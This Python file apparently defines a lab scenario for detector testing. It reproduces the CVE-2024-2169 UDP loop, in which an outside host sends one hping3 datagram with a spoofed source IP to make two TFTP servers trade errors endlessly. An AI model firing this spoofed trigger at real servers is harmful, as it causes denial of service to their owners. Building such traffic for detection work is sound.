"""Two TFTP servers that answer errors with errors (CVE-2024-2169)."""

from lab.range import Range
from lab.scenario import Scenario
from lab.scenarios.transport.udp_loop_servers import service


def run(net: Range) -> None:
    attacker = net.outside("attacker")
    one, other = net.inside("files"), net.inside("printer")
    loop = [service(one, "error", 69, 0.03), service(other, "error", 69, 0.03)]
    net.everyday()
    with net.attack(
        "udp-loop",
        by=[attacker, one, other],
        attackers=[],
        attacker_known=False,
        victims=[one, other],
        also=["ip-spoofing"],
        frames="udp src port 69 and udp dst port 69",
    ):
        net.tool(attacker, *f"hping3 -q --udp -a {one.ip} -s 69 -k -p 69 -d 20 -c 1 {other.ip}".split())
        net.quiet(10)
        for process in loop:
            net.end(process)
    net.quiet(2)


SCENARIO = Scenario(
    name="udp-loop-tftp",
    about="From outside one forged datagram lets two TFTP servers send each other errors, 30 a second.",
    detectors=("udp-loop",),
    tools={"hping3": "hping3"},
    run=run,
)
